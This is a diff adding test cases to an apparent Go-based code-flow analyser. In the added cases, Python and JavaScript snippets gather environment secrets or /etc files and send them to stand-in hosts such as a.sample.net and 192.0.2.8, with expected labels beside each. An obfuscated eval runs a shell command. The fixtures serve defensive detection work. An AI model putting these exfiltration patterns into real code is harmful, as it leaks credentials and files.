@@ -249,6 +249,13 @@ func TestPythonFlow(t *testing.T) {
 		{"import codecs, zlib\neval(compile(codecs.decode('vzcbeg bf; bf.flfgrz(\"rpub 1\")', 'rot13'), 'x', 'exec'))", "decodes encoding rot13; runs code  <decodes:rot13; imports module os"},
 		{"import keyring, pyperclip\nkeyring.get_password('a', 'b')\npyperclip.paste()\ninput()", "reads store key store; reads store clipboard; reads store input"},
 		{"import os\nNAMES = ('A_KEY', 'B_KEY')\nfor n in NAMES:\n    os.environ.get(n)\nos.environ['SET'] = '1'", "reads variable A_KEY; reads variable B_KEY; !reads variable SET"},
+		{"import os, requests\ns = {}\nfor k, v in os.environ.items():\n    if 'KEY' in k:\n        s[k] = v\nrequests.post('https://a.sample.net', json={'e': s})", "sends host a.sample.net <reads:*"},
+		{"import requests\nrequests.post('https://a.sample.net', json=dict(a=1))", "sends host a.sample.net; !reads variable *"},
+		{"import requests\nfound = []\nfor p in ['/etc/a', '/etc/b']:\n    found.append({'p': p, 'c': open(p).read()})\nrequests.post('https://a.sample.net', json=found)", "sends host a.sample.net <reads:/etc/a <reads:/etc/b"},
+		{"import subprocess, requests\nx = subprocess.check_output('cat /etc/a', shell=True)\nrequests.post('https://a.sample.net', data=x)", "sends host a.sample.net <runs: <reads:/etc/a"},
+		{"import socket\ns = socket.socket()\ns.connect(('192.0.2.8', 1))\ns.sendall(open('/etc/a').read())", "sends host 192.0.2.8 <reads:/etc/a"},
+		{"import requests\nclass A:\n    def read(self, p):\n        return open(p).read()\n    def get(self):\n        return self.read('/etc/a')\nrequests.post('https://a.sample.net', data=A().get())", "sends host a.sample.net <reads:/etc/a"},
+		{"import os, subprocess\nsubprocess.run(['git', 'fetch', 'https://a.sample.net/x'], env=os.environ.copy())", "sends host a.sample.net <runs:git; !sends host a.sample.net <reads:*"},
 		{"import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'left'])", "needs package left"},
 	})
 }
@@ -287,6 +294,8 @@ func TestJavaScriptFlow(t *testing.T) {
 		{"fetch('https://a.sample.net', {body: JSON.stringify(process.env)})", "reads variable *; sends host a.sample.net <reads:*"},
 		{"class A { constructor(u) { this.u = u } go() { return fetch(this.u) } }\nnew A('https://a.sample.net').go()", "sends host a.sample.net"},
 		{"const SOURCES = [{n: 'a', url: 'https://a.sample.net'}, {n: 'b', url: 'https://b.sample.net'}]\nfor (const s of SOURCES) get(s)\nasync function get(s) { await fetch(s.url) }", "sends host a.sample.net; sends host b.sample.net"},
+		{"async function f(p) { try { return {a: p, b: await require('fs').promises.readFile(p)} } catch (e) { return {b: null} } }\nf('/etc/a').then(x => fetch('https://a.sample.net', {body: JSON.stringify({x: x})}))", "sends host a.sample.net <reads:/etc/a"},
+		{"const d = {}; for (const k of Object.keys(process.env)) d[k] = process.env[k]\nconst r = require('https').request({hostname: 'a.sample.net'}); r.write(JSON.stringify(d)); r.end()", "sends host a.sample.net <reads:*"},
 		{"console.log('https://a.sample.net'); const x = 'https://b.sample.net'; weird('https://c.sample.net')", "!sends host a.sample.net; !sends host b.sample.net; sends host c.sample.net?"},
 	})
 }
